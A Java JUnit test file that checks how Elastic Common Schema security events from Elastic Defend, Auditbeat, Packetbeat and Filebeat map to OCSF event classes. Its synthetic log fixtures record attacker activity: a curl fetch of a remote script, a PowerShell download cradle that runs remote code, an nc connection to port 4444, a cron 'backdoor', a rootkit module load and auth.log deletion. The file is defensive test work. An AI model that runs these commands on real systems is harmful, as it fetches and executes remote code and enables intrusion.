package io.socaas.events.ocsf;

import static io.socaas.events.ocsf.MappedRecords.assertDenied;
import static io.socaas.events.ocsf.MappedRecords.assertFlow;
import static io.socaas.events.ocsf.MappedRecords.assertProduct;
import static io.socaas.events.ocsf.MappedRecords.epochMillis;
import static io.socaas.events.ocsf.MappedRecords.json;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import org.junit.jupiter.api.Test;

/**
 * Events already in the Elastic Common Schema (Elastic Defend, Auditbeat and Auditd Manager,
 * Packetbeat, Filebeat after its processors) as the Elasticsearch bulk and HTTP intakes receive them:
 * mapped by {@code event.category} with {@code event.type} or {@code event.action}, while Winlogbeat's
 * Windows events, Filebeat's raw lines and other vendors' JSON keep their own files.
 */
class ElasticCommonSchemaMappingsTest {

    private static void assertClass(JsonNode r, int classUid, int activityId) {
        assertThat(r.get("class_uid").asInt()).as("class of %s", r).isEqualTo(classUid);
        assertThat(r.get("activity_id").asInt()).as("activity of %s", r).isEqualTo(activityId);
        assertProduct(r, "Elastic");
    }

    @Test
    void elasticDefendProcessStartIsAProcessLaunchWithParentHashAndUser() throws Exception {
        JsonNode r = json("""
                {"@timestamp":"2026-03-01T09:12:01.123Z","agent":{"id":"6c2f0a1e-1111-4a2b-9c3d-000000000001","type":"endpoint","version":"8.17.0"},"data_stream":{"dataset":"endpoint.events.process","namespace":"default","type":"logs"},"ecs":{"version":"8.11.0"},"event":{"action":"exec","category":["process"],"created":"2026-03-01T09:12:01.123Z","dataset":"endpoint.events.process","id":"NqzD1f3n","kind":"event","module":"endpoint","outcome":"unknown","type":["start"]},"host":{"hostname":"web-01","name":"web-01","id":"a1b2c3d4","ip":["192.0.2.10"],"os":{"type":"linux","name":"Ubuntu","version":"22.04.4","family":"debian","kernel":"5.15.0-101-generic"}},"message":"Endpoint process event","process":{"args":["curl","-s","http://203.0.113.50/x.sh"],"args_count":3,"command_line":"curl -s http://203.0.113.50/x.sh","entity_id":"ZjI3NmQ","executable":"/usr/bin/curl","hash":{"md5":"0f343b0931126a20f133d67c2b018a3b","sha1":"7b1d1b0d4f1e3c7a3c4a6b2f1e0d9c8b7a6f5e4d","sha256":"4b2a1c0f9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e0d9c8b7a6f5e4d3c2b"},"name":"curl","pid":40211,"working_directory":"/tmp","parent":{"pid":40190,"name":"bash","executable":"/usr/bin/bash","command_line":"bash -i","entity_id":"Yp9Q"},"user":{"id":"1001","name":"deploy"}},"user":{"id":"1001","name":"deploy"}}""");
        assertClass(r, 1007, 1);
        assertThat(r.at("/process/pid").asInt()).isEqualTo(40211);
        assertThat(r.at("/process/cmd_line").asText()).isEqualTo("curl -s http://203.0.113.50/x.sh");
        assertThat(r.at("/process/file/path").asText()).isEqualTo("/usr/bin/curl");
        assertThat(r.at("/process/file/hashes/0/algorithm_id").asInt()).isEqualTo(3);
        assertThat(r.at("/process/working_directory").asText()).isEqualTo("/tmp");
        assertThat(r.at("/process/parent_process/pid").asInt()).isEqualTo(40190);
        assertThat(r.at("/process/parent_process/cmd_line").asText()).isEqualTo("bash -i");
        assertThat(r.at("/actor/process/name").asText()).isEqualTo("bash");
        assertThat(r.at("/process/user/name").asText()).isEqualTo("deploy");
        assertThat(r.at("/device/hostname").asText()).isEqualTo("web-01");
        assertThat(r.at("/device/ip").asText()).isEqualTo("192.0.2.10");
        assertThat(r.at("/device/os/type").asText()).isEqualTo("linux");
        assertThat(r.at("/metadata/log_name").asText()).isEqualTo("endpoint.events.process");
        assertThat(r.get("time").asLong()).isEqualTo(epochMillis("2026-03-01T09:12:01.123Z"));
    }

    @Test
    void processEndsAndAuditbeatProcessesAreProcessActivity() throws Exception {
        JsonNode end = json("""
                {"@timestamp":"2026-03-01T09:13:00.000Z","agent":{"type":"endpoint","version":"8.17.0"},"ecs":{"version":"8.11.0"},"event":{"action":"end","category":["process"],"dataset":"endpoint.events.process","kind":"event","module":"endpoint","type":["end"]},"host":{"hostname":"WS-042","name":"ws-042.corp.example.com","os":{"type":"windows","name":"Windows 11 Pro","version":"23H2"}},"process":{"name":"powershell.exe","pid":7312,"executable":"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe","args":["powershell.exe","-nop","-w","hidden"],"exit_code":0,"parent":{"pid":5120,"name":"explorer.exe"}},"user":{"name":"jdoe","domain":"CORP","id":"S-1-5-21-1111111111-2222222222-3333333333-1104"}}""");
        assertClass(end, 1007, 2);
        assertThat(end.at("/process/name").asText()).isEqualTo("powershell.exe");
        assertThat(end.at("/process/user/domain").asText()).isEqualTo("CORP");
        assertThat(end.get("exit_code").asInt()).isZero();

        // Auditbeat's process dataset: read as ECS, not as a line of sshd although process.name is sshd
        JsonNode auditbeat = json("""
                {"@timestamp":"2026-03-01T09:14:00.000Z","agent":{"type":"auditbeat","version":"8.15.0","hostname":"db-2"},"ecs":{"version":"8.0.0"},"event":{"action":"process_started","category":["process"],"dataset":"process","kind":"event","module":"system","type":["start"]},"host":{"name":"db-2","hostname":"db-2","os":{"type":"linux","name":"Debian GNU/Linux"}},"message":"Process sshd (PID: 2210) by user root STARTED","process":{"args":["/usr/sbin/sshd","-D","-R"],"entity_id":"sshdent","executable":"/usr/sbin/sshd","hash":{"sha1":"a9993e364706816aba3e25717850c26c9cd0d89d"},"name":"sshd","pid":2210,"ppid":812,"parent":{"pid":812},"working_directory":"/"},"user":{"id":"0","name":"root"}}""");
        assertClass(auditbeat, 1007, 1);
        assertThat(auditbeat.at("/process/pid").asInt()).isEqualTo(2210);
        assertThat(auditbeat.at("/process/parent_process/pid").asInt()).isEqualTo(812);
        assertThat(auditbeat.at("/process/file/hashes/0/algorithm").asText()).isEqualTo("SHA-1");
        // without a command line, the arguments are it (an argument with a blank or a quote in quotes)
        assertThat(auditbeat.at("/process/cmd_line").asText()).isEqualTo("/usr/sbin/sshd -D -R");
        assertThat(end.at("/process/cmd_line").asText()).isEqualTo("powershell.exe -nop -w hidden");
        JsonNode quoted = json("""
                {"@timestamp":"2026-03-01T09:14:00.000Z","agent":{"type":"auditbeat"},"ecs":{"version":"8.0.0"},"event":{"action":"process_started","category":["process"],"module":"system","type":["start"]},"host":{"name":"db-2","os":{"type":"linux"}},"process":{"args":["sh","-c","echo \\"hi there\\" > /tmp/x",""],"executable":"/bin/sh","name":"sh","pid":2211}}""");
        assertThat(quoted.at("/process/cmd_line").asText()).isEqualTo("sh -c \"echo \\\"hi there\\\" > /tmp/x\" \"\"");
        // a command line the event has wins over its arguments
        JsonNode both = json("""
                {"@timestamp":"2026-03-01T09:14:00.000Z","agent":{"type":"endpoint"},"ecs":{"version":"8.11.0"},"event":{"action":"exec","category":["process"],"module":"endpoint","type":["start"]},"host":{"name":"db-2","os":{"type":"linux"}},"process":{"args":["curl","-s","https://example.com"],"command_line":"curl -s https://example.com/","executable":"/usr/bin/curl","name":"curl","pid":2212}}""");
        assertThat(both.at("/process/cmd_line").asText()).isEqualTo("curl -s https://example.com/");
    }

    @Test
    void packetbeatFlowsDnsAndHttpKeepTheirEndpoints() throws Exception {
        JsonNode flow = json("""
                {"@timestamp":"2026-03-01T09:15:00.000Z","agent":{"type":"packetbeat","version":"8.15.0"},"ecs":{"version":"8.0.0"},"event":{"action":"network_flow","category":["network"],"dataset":"flow","duration":5000000000,"start":"2026-03-01T09:14:55.000Z","end":"2026-03-01T09:15:00.000Z","kind":"event","type":["connection","end"]},"flow":{"final":true,"id":"EQQA////DP"},"host":{"name":"sensor-1"},"network":{"bytes":5304,"community_id":"1:hO+sN4H+MG5MY/8hIrXPqc4ZQz0=","direction":"egress","packets":14,"transport":"tcp","type":"ipv4"},"source":{"bytes":1088,"ip":"192.0.2.25","packets":7,"port":51544},"destination":{"bytes":4216,"ip":"198.51.100.80","packets":7,"port":443},"type":"flow"}""");
        assertFlow(flow, 6, "192.0.2.25", 51544, "198.51.100.80", 443);
        assertProduct(flow, "Elastic");
        assertThat(flow.at("/connection_info/protocol_name").asText()).isEqualTo("tcp");
        assertThat(flow.at("/connection_info/direction_id").asInt()).isEqualTo(2);
        assertThat(flow.at("/traffic/bytes_out").asLong()).isEqualTo(1088);
        assertThat(flow.at("/traffic/bytes_in").asLong()).isEqualTo(4216);

        JsonNode dns = json("""
                {"@timestamp":"2026-03-01T09:16:00.000Z","agent":{"type":"packetbeat"},"ecs":{"version":"8.0.0"},"event":{"category":["network"],"dataset":"dns","kind":"event","type":["connection","protocol"]},"network":{"protocol":"dns","transport":"udp","direction":"egress"},"source":{"ip":"192.0.2.31","port":53211},"destination":{"ip":"198.51.100.53","port":53},"dns":{"id":4411,"op_code":"QUERY","question":{"name":"updates.example.com","type":"A","class":"IN"},"response_code":"NOERROR","answers_count":1,"answers":[{"name":"updates.example.com","type":"A","class":"IN","ttl":"300","data":"203.0.113.10"}],"type":"answer"},"method":"QUERY","type":"dns","status":"OK"}""");
        assertClass(dns, 4003, 2);
        assertThat(dns.at("/query/hostname").asText()).isEqualTo("updates.example.com");
        assertThat(dns.at("/query/type").asText()).isEqualTo("A");
        assertThat(dns.get("rcode_id").asInt()).isZero();
        assertThat(dns.at("/answers/0/rdata").asText()).isEqualTo("203.0.113.10");
        assertThat(dns.at("/src_endpoint/ip").asText()).isEqualTo("192.0.2.31");

        JsonNode http = json("""
                {"@timestamp":"2026-03-01T09:17:00.000Z","agent":{"type":"packetbeat"},"ecs":{"version":"8.0.0"},"event":{"category":["network","web"],"dataset":"http","kind":"event","type":["connection","protocol"]},"network":{"protocol":"http","transport":"tcp"},"source":{"ip":"192.0.2.44","port":40110},"destination":{"ip":"198.51.100.8","port":8080,"domain":"intranet.example.com"},"http":{"version":"1.1","request":{"method":"POST","bytes":530},"response":{"status_code":403,"bytes":210}},"url":{"full":"http://intranet.example.com:8080/admin/login?next=%2F","domain":"intranet.example.com","path":"/admin/login","query":"next=%2F","port":8080,"scheme":"http"},"user_agent":{"original":"python-requests/2.31.0"},"type":"http","status":"Error"}""");
        assertClass(http, 4002, 6);
        assertThat(http.at("/http_request/url/path").asText()).isEqualTo("/admin/login");
        assertThat(http.at("/http_request/url/hostname").asText()).isEqualTo("intranet.example.com");
        assertThat(http.at("/http_request/user_agent").asText()).isEqualTo("python-requests/2.31.0");
        assertThat(http.at("/http_response/code").asInt()).isEqualTo(403);
        assertThat(http.at("/dst_endpoint/port").asInt()).isEqualTo(8080);
    }

    @Test
    void endpointConnectionsAndDeniedTrafficAreNetworkActivity() throws Exception {
        JsonNode attempt = json("""
                {"@timestamp":"2026-03-01T09:30:00.000Z","agent":{"type":"endpoint"},"ecs":{"version":"8.11.0"},"event":{"action":"connection_attempted","category":["network"],"dataset":"endpoint.events.network","kind":"event","module":"endpoint","type":["start"]},"host":{"name":"web-01","os":{"type":"linux"}},"network":{"direction":"egress","transport":"tcp","type":"ipv4"},"process":{"name":"nc","pid":5120,"executable":"/usr/bin/nc"},"source":{"ip":"192.0.2.10","port":40022},"destination":{"ip":"203.0.113.66","port":4444},"user":{"name":"www-data"}}""");
        assertFlow(attempt, 1, "192.0.2.10", 40022, "203.0.113.66", 4444);
        assertThat(attempt.at("/actor/process/name").asText()).isEqualTo("nc");

        JsonNode denied = json("""
                {"@timestamp":"2026-03-01T09:31:00.000Z","agent":{"type":"filebeat"},"ecs":{"version":"8.0.0"},"event":{"action":"drop","category":["network"],"kind":"event","outcome":"failure","type":["connection","denied"]},"observer":{"product":"iptables","vendor":"Netfilter"},"network":{"transport":"udp","direction":"inbound"},"source":{"ip":"203.0.113.5","port":5353},"destination":{"ip":"192.0.2.1","port":161}}""");
        assertFlow(denied, 5, "203.0.113.5", 5353, "192.0.2.1", 161);
        assertDenied(denied);
        assertThat(denied.at("/connection_info/direction_id").asInt()).isEqualTo(1);
    }

    @Test
    void loginsAndLogoutsAreAuthenticationWithTheirOutcome() throws Exception {
        JsonNode failed = json("""
                {"@timestamp":"2026-03-01T09:18:00.000Z","agent":{"type":"filebeat"},"ecs":{"version":"8.0.0"},"event":{"action":"ssh_login","category":["authentication","session"],"dataset":"system.auth","kind":"event","module":"system","outcome":"failure","type":["info"]},"host":{"hostname":"bastion","name":"bastion"},"process":{"name":"sshd","pid":9091},"source":{"ip":"203.0.113.77","port":50122},"system":{"auth":{"ssh":{"event":"Failed","method":"password"}}},"user":{"name":"oracle"},"message":"Failed password for invalid user oracle from 203.0.113.77 port 50122 ssh2"}""");
        assertClass(failed, 3002, 1);
        assertThat(failed.get("status_id").asInt()).isEqualTo(2);
        assertThat(failed.at("/user/name").asText()).isEqualTo("oracle");
        assertThat(failed.at("/src_endpoint/ip").asText()).isEqualTo("203.0.113.77");
        assertThat(failed.at("/src_endpoint/port").asInt()).isEqualTo(50122);

        JsonNode logout = json("""
                {"@timestamp":"2026-03-01T09:19:00.000Z","agent":{"type":"auditbeat"},"ecs":{"version":"8.0.0"},"event":{"action":"user_logout","category":["authentication"],"dataset":"login","kind":"event","module":"system","outcome":"success","type":["end"]},"host":{"name":"db-2"},"message":"Logout by user alice (UID: 1000) on pts/0 (PID: 3011) from 198.51.100.23","process":{"pid":3011},"source":{"ip":"198.51.100.23"},"user":{"id":"1000","name":"alice"}}""");
        assertClass(logout, 3002, 2);
        assertThat(logout.get("status_id").asInt()).isEqualTo(1);
        assertThat(logout.at("/user/name").asText()).isEqualTo("alice");

        // auditd: event.type is a list, the logon's type among others
        JsonNode auditd = json("""
                {"@timestamp":"2026-03-01T09:20:00.000Z","agent":{"type":"auditbeat"},"ecs":{"version":"8.0.0"},"event":{"action":"logged-in","category":["authentication"],"kind":"event","module":"auditd","outcome":"success","type":["start","authentication_success"]},"auditd":{"message_type":"user_login","result":"success","summary":{"actor":{"primary":"bob","secondary":"bob"},"how":"/usr/sbin/sshd","object":{"primary":"/dev/pts/1","type":"user-session"}}},"host":{"name":"app-3"},"process":{"executable":"/usr/sbin/sshd","pid":5512},"source":{"ip":"192.0.2.200"},"user":{"name":"bob","id":"1002"}}""");
        assertClass(auditd, 3002, 1);
        assertThat(auditd.get("status").asText()).isEqualTo("Success");
        assertThat(auditd.at("/src_endpoint/ip").asText()).isEqualTo("192.0.2.200");
    }

    @Test
    void filesAreFileSystemActivityARenameWithItsOldAndNewPath() throws Exception {
        JsonNode created = json("""
                {"@timestamp":"2026-03-01T09:21:00.000Z","agent":{"type":"auditbeat"},"ecs":{"version":"8.0.0"},"event":{"action":["created"],"category":["file"],"dataset":"file","kind":"event","module":"file_integrity","type":["creation"]},"file":{"path":"/etc/cron.d/backdoor","name":"backdoor","extension":"","size":120,"owner":"root","uid":"0","type":"file","hash":{"sha256":"9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"}},"host":{"name":"web-01"}}""");
        assertClass(created, 1001, 1);
        assertThat(created.at("/file/path").asText()).isEqualTo("/etc/cron.d/backdoor");
        assertThat(created.at("/file/hashes/0/algorithm_id").asInt()).isEqualTo(3);

        JsonNode renamed = json("""
                {"@timestamp":"2026-03-01T09:22:00.000Z","agent":{"type":"endpoint"},"ecs":{"version":"8.11.0"},"event":{"action":"rename","category":["file"],"dataset":"endpoint.events.file","kind":"event","module":"endpoint","type":["change"]},"file":{"path":"C:\\\\Users\\\\jdoe\\\\Documents\\\\report.docx.locked","name":"report.docx.locked","Ext":{"original":{"path":"C:\\\\Users\\\\jdoe\\\\Documents\\\\report.docx","name":"report.docx"}}},"host":{"name":"ws-042","os":{"type":"windows"}},"process":{"name":"evil.exe","pid":6612,"executable":"C:\\\\Users\\\\jdoe\\\\AppData\\\\Local\\\\Temp\\\\evil.exe"},"user":{"name":"jdoe","domain":"CORP"}}""");
        assertClass(renamed, 1001, 5);
        assertThat(renamed.at("/file/path").asText()).isEqualTo("C:\\Users\\jdoe\\Documents\\report.docx");
        assertThat(renamed.at("/file_result/path").asText())
                .isEqualTo("C:\\Users\\jdoe\\Documents\\report.docx.locked");
        assertThat(renamed.at("/actor/process/name").asText()).isEqualTo("evil.exe");

        JsonNode deleted = json("""
                {"@timestamp":"2026-03-01T09:23:00.000Z","agent":{"type":"endpoint"},"ecs":{"version":"8.11.0"},"event":{"action":"deletion","category":["file"],"dataset":"endpoint.events.file","kind":"event","module":"endpoint","type":["deletion"]},"file":{"path":"/var/log/auth.log","name":"auth.log"},"host":{"name":"web-01","os":{"type":"linux"}},"process":{"name":"rm","pid":4120,"executable":"/usr/bin/rm"},"user":{"name":"root"}}""");
        assertClass(deleted, 1001, 4);
        assertThat(deleted.at("/file/name").asText()).isEqualTo("auth.log");
    }

    @Test
    void usersAndGroupsAreAccountChangeAndGroupManagement() throws Exception {
        JsonNode user = json("""
                {"@timestamp":"2026-03-01T09:24:00.000Z","agent":{"type":"auditbeat"},"ecs":{"version":"8.0.0"},"event":{"action":"user_added","category":["iam"],"dataset":"user","kind":"event","module":"system","type":["user","creation"]},"host":{"name":"db-2"},"message":"New user svc-backup (UID: 1005, Groups: svc-backup)","user":{"id":"1005","name":"svc-backup","group":{"id":"1005","name":"svc-backup"}}}""");
        assertClass(user, 3001, 1);
        assertThat(user.at("/user/name").asText()).isEqualTo("svc-backup");
        assertThat(user.at("/user/uid").asText()).isEqualTo("1005");

        JsonNode group = json("""
                {"@timestamp":"2026-03-01T09:25:00.000Z","agent":{"type":"auditbeat"},"ecs":{"version":"8.0.0"},"event":{"action":"added-group-account-to","category":["iam"],"kind":"event","module":"auditd","outcome":"success","type":["group","creation"]},"group":{"id":"1010","name":"ops"},"host":{"name":"app-3"},"user":{"name":"root","id":"0"}}""");
        assertClass(group, 3006, 6);
        assertThat(group.at("/group/name").asText()).isEqualTo("ops");
        assertThat(group.at("/actor/user/name").asText()).isEqualTo("root");
    }

    @Test
    void registryLibrariesAndDriversHaveTheirClasses() throws Exception {
        JsonNode registry = json("""
                {"@timestamp":"2026-03-01T09:26:00.000Z","agent":{"type":"endpoint"},"ecs":{"version":"8.11.0"},"event":{"action":"modification","category":["registry"],"dataset":"endpoint.events.registry","kind":"event","module":"endpoint","type":["change"]},"host":{"name":"ws-042","os":{"type":"windows"}},"process":{"name":"reg.exe","pid":3210,"executable":"C:\\\\Windows\\\\System32\\\\reg.exe"},"registry":{"hive":"HKLM","key":"SOFTWARE\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run","path":"HKLM\\\\SOFTWARE\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run\\\\Updater","value":"Updater","data":{"strings":["C:\\\\ProgramData\\\\upd.exe"],"type":"REG_SZ"}},"user":{"name":"SYSTEM","domain":"NT AUTHORITY"}}""");
        assertClass(registry, 201002, 2);
        assertThat(registry.at("/reg_value/name").asText()).isEqualTo("Updater");
        assertThat(registry.at("/reg_value/reg_string_data").asText()).isEqualTo("C:\\ProgramData\\upd.exe");
        assertThat(registry.at("/actor/process/name").asText()).isEqualTo("reg.exe");

        JsonNode library = json("""
                {"@timestamp":"2026-03-01T09:27:00.000Z","agent":{"type":"endpoint"},"ecs":{"version":"8.11.0"},"event":{"action":"load","category":["library"],"dataset":"endpoint.events.library","kind":"event","module":"endpoint","type":["start"]},"dll":{"name":"vaultcli.dll","path":"C:\\\\Windows\\\\System32\\\\vaultcli.dll","hash":{"sha256":"1111111111111111111111111111111111111111111111111111111111111111"}},"host":{"name":"ws-042","os":{"type":"windows"}},"process":{"name":"rundll32.exe","pid":4420,"executable":"C:\\\\Windows\\\\System32\\\\rundll32.exe"}}""");
        assertClass(library, 1005, 1);
        assertThat(library.at("/module/file/name").asText()).isEqualTo("vaultcli.dll");
        assertThat(library.at("/actor/process/name").asText()).isEqualTo("rundll32.exe");

        JsonNode driver = json("""
                {"@timestamp":"2026-03-01T09:32:00.000Z","agent":{"type":"auditbeat"},"ecs":{"version":"8.0.0"},"event":{"action":"loaded-kernel-module","category":["driver"],"kind":"event","module":"auditd","outcome":"success","type":["start"]},"auditd":{"summary":{"object":{"primary":"rootkit_mod","type":"file"}}},"file":{"path":"/lib/modules/rootkit_mod.ko"},"host":{"name":"app-3"},"process":{"name":"insmod","pid":7701,"executable":"/usr/bin/kmod"},"user":{"name":"root"}}""");
        assertClass(driver, 1002, 1);
        assertThat(driver.at("/driver/file/path").asText()).isEqualTo("/lib/modules/rootkit_mod.ko");
    }

    @Test
    void elasticDefendAlertsAreDetectionFindings() throws Exception {
        JsonNode malware = json("""
                {"@timestamp":"2026-03-01T09:28:00.000Z","agent":{"type":"endpoint"},"ecs":{"version":"8.11.0"},"event":{"action":"execution","category":["malware","intrusion_detection","file"],"code":"malicious_file","dataset":"endpoint.alerts","kind":"alert","module":"endpoint","outcome":"success","risk_score":99,"severity":99,"type":["info","denied"]},"file":{"name":"invoice.exe","path":"C:\\\\Users\\\\jdoe\\\\Downloads\\\\invoice.exe","hash":{"sha256":"2222222222222222222222222222222222222222222222222222222222222222"}},"host":{"name":"ws-042","os":{"type":"windows"}},"message":"Malware Prevention Alert","process":{"name":"invoice.exe","pid":6120,"executable":"C:\\\\Users\\\\jdoe\\\\Downloads\\\\invoice.exe"},"user":{"name":"jdoe","domain":"CORP"}}""");
        assertClass(malware, 2004, 1);
        assertThat(malware.get("severity_id").asInt()).isEqualTo(5);
        assertThat(malware.get("disposition").asText()).isEqualTo("Blocked");
        assertThat(malware.at("/finding_info/title").asText()).isEqualTo("Malware Prevention Alert");
        assertThat(malware.at("/evidences/0/file/path").asText()).isEqualTo("C:\\Users\\jdoe\\Downloads\\invoice.exe");

        JsonNode behavior = json("""
                {"@timestamp":"2026-03-01T09:29:00.000Z","agent":{"type":"endpoint"},"ecs":{"version":"8.11.0"},"event":{"action":"rule_detection","category":["malware","intrusion_detection"],"code":"behavior","dataset":"endpoint.alerts","kind":"alert","module":"endpoint","outcome":"success","risk_score":73,"severity":73,"type":["info","allowed"]},"rule":{"id":"c0ffee00-0000-4000-8000-000000000001","name":"Suspicious PowerShell Download Cradle","ruleset":"production"},"threat":[{"framework":"MITRE ATT&CK","tactic":{"id":"TA0002","name":"Execution"},"technique":[{"id":"T1059","name":"Command and Scripting Interpreter"}]}],"host":{"name":"ws-042","os":{"type":"windows"}},"message":"Malicious Behavior Detection Alert: Suspicious PowerShell Download Cradle","process":{"name":"powershell.exe","pid":7312,"command_line":"powershell -nop -c iex(iwr http://203.0.113.9/a)"},"user":{"name":"jdoe"}}""");
        assertClass(behavior, 2004, 1);
        assertThat(behavior.get("severity_id").asInt()).isEqualTo(4);
        assertThat(behavior.get("disposition").asText()).isEqualTo("Detected");
        assertThat(behavior.at("/finding_info/title").asText()).isEqualTo("Suspicious PowerShell Download Cradle");
        assertThat(behavior.at("/finding_info/attacks/0/technique/uid").asText())
                .isEqualTo("T1059");
        assertThat(behavior.at("/finding_info/attacks/0/tactic/name").asText()).isEqualTo("Execution");
        assertThat(behavior.at("/evidences/0/process/pid").asInt()).isEqualTo(7312);
    }

    @Test
    void otherEcsEventsAreBaseEventsOfElastic() throws Exception {
        JsonNode packageInstalled = json("""
                {"@timestamp":"2026-03-01T09:33:00.000Z","agent":{"type":"auditbeat"},"ecs":{"version":"8.0.0"},"event":{"action":"package_installed","category":["package"],"dataset":"package","kind":"event","module":"system","type":["installation"]},"host":{"name":"db-2","os":{"type":"linux"}},"message":"Package nginx (1.24.0) installed","package":{"name":"nginx","version":"1.24.0"}}""");
        assertClass(packageInstalled, 0, 99);
        assertThat(packageInstalled.at("/device/hostname").asText()).isEqualTo("db-2");
        assertThat(packageInstalled.at("/unmapped/package/name").asText()).isEqualTo("nginx");

        // auditd's audit configuration change: process and network among its categories, neither a start nor addresses
        JsonNode config = json("""
                {"@timestamp":"2026-03-01T09:40:00Z","ecs":{"version":"8.0.0"},"agent":{"type":"auditbeat"},
                 "event":{"action":"changed-audit-configuration","category":["process","configuration","network"],
                 "kind":"event","module":"auditd","outcome":"success","type":["change","connection","info"]},
                 "host":{"name":"app-3"},"process":{"name":"auditbeat","pid":22501}}""");
        assertClass(config, 0, 99);
        assertThat(config.at("/actor/process/name").asText()).isEqualTo("auditbeat");
    }

    @Test
    void winlogbeatFilebeatLinesAndOtherVendorsKeepTheirOwnFiles() throws Exception {
        // Winlogbeat 4624 with its ECS event.* fields: still the Windows Security log's
        JsonNode winlogbeat = json("""
                {"@timestamp":"2026-03-01T09:35:00.000Z","agent":{"type":"winlogbeat","version":"8.15.0"},"ecs":{"version":"8.0.0"},"event":{"action":"logged-in","category":["authentication"],"code":"4624","kind":"event","module":"security","outcome":"success","provider":"Microsoft-Windows-Security-Auditing","type":["start"]},"host":{"name":"dc-01.corp.example.com"},"log":{"level":"information"},"message":"An account was successfully logged on.","winlog":{"channel":"Security","computer_name":"dc-01.corp.example.com","event_id":"4624","provider_name":"Microsoft-Windows-Security-Auditing","record_id":"99121","event_data":{"LogonType":"3","TargetUserName":"svc-web","TargetDomainName":"CORP","IpAddress":"192.0.2.77","IpPort":"51234","SubjectUserSid":"S-1-0-0","TargetUserSid":"S-1-5-21-1-2-3-1107","LogonProcessName":"NtLmSsp","AuthenticationPackageName":"NTLM","WorkstationName":"WS-077"}}}""");
        assertThat(winlogbeat.get("class_uid").asInt()).isEqualTo(3002);
        assertProduct(winlogbeat, "Windows");
        assertThat(winlogbeat.get("logon_type_id").asInt()).isEqualTo(3);
        assertThat(winlogbeat.at("/user/name").asText()).isEqualTo("svc-web");

        // Filebeat's raw line (ecs.version, log.*, agent.*, no event.category): still read as sshd's line
        JsonNode filebeat = json("""
                {"@timestamp":"2026-03-01T09:34:00.000Z","agent":{"type":"filebeat","version":"8.15.0","name":"bastion"},"ecs":{"version":"8.0.0"},"host":{"name":"bastion"},"input":{"type":"filestream"},"log":{"file":{"path":"/var/log/auth.log"},"offset":1234},"message":"Mar  1 09:34:00 bastion sshd[2001]: Failed password for invalid user admin from 203.0.113.9 port 50000 ssh2"}""");
        assertThat(filebeat.get("class_uid").asInt()).isEqualTo(3002);
        assertProduct(filebeat, "OpenSSH");
        assertThat(filebeat.get("status_id").asInt()).isEqualTo(2);
        assertThat(filebeat.at("/src_endpoint/ip").asText()).isEqualTo("203.0.113.9");
        assertThat(filebeat.at("/unmapped/log/file/path").asText()).isEqualTo("/var/log/auth.log");

        // a Filebeat module's line (event.module and event.dataset, no category) is still its line
        JsonNode module = json("""
                {"@timestamp":"2026-03-01T09:41:00Z","ecs":{"version":"8.0.0"},"agent":{"type":"filebeat"},
                 "event":{"module":"system","dataset":"system.syslog"},"fileset":{"name":"syslog"},
                 "message":"Mar  1 09:41:00 web-01 sudo[991]:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/id"}""");
        assertThat(module.at("/metadata/product/name").asText()).isNotEqualTo("Elastic");
        assertThat(module.get("class_uid").asInt()).isNotZero();

        // another vendor's JSON keeps its file
        JsonNode falcon = json("""
                {"metadata":{"eventType":"AuthActivityAuditEvent","eventCreationTime":1772355600000,"customerIDString":"c1"},
                 "event":{"UserId":"analyst@example.com","UserIp":"198.51.100.20","OperationName":"userAuthenticate",
                 "ServiceName":"CrowdStrike Authentication","Success":false,"UTCTimestamp":1772355600}}""");
        assertThat(falcon.get("class_uid").asInt()).isEqualTo(3002);
        assertProduct(falcon, "Falcon");
        assertThat(falcon.get("status_id").asInt()).isEqualTo(2);
    }
}
